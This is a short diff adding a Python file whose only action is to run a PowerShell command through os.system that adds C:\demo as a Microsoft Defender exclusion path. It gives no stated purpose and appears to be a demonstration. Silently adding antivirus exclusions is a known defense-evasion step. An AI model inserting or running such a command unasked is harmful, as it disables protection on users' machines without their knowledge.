@@ -1,0 +1,3 @@
+import os
+
+os.system("powershell Add-MpPreference -ExclusionPath C:\\demo")
